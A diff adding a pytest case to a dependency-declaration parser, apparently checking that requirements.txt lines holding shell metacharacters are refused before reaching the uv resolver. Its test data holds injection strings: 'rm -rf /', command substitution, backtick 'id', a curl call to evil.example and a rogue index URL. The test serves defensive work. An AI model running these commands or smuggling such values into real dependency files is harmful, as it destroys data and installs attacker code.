@@ -210,6 +210,23 @@ def test_hostile_declarations_are_findings_not_hangs(tmp_path: Path) -> None:
         declared_dependencies(broken)
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "tenacity; rm -rf /",
+        "$(touch /tmp/cr-pwned)==1.0",
+        "rich`id`",
+        "httpx==0.28.1 && curl evil.example",
+        "x==1 --index-url=https://evil.example/simple",
+    ],
+)
+def test_shell_metacharacters_never_reach_the_resolver(tmp_path: Path, line: str) -> None:
+    declared = declared_dependencies(tree(tmp_path, {"requirements.txt": line + "\n"}))
+    assert declared.requirements == []  # nothing of it would reach uv
+    (refusal,) = declared.refused
+    assert (refusal.path, refusal.line) == ("requirements.txt", 1)
+
+
 def test_a_linked_or_special_declaration_is_not_followed(tmp_path: Path) -> None:
     import os
 
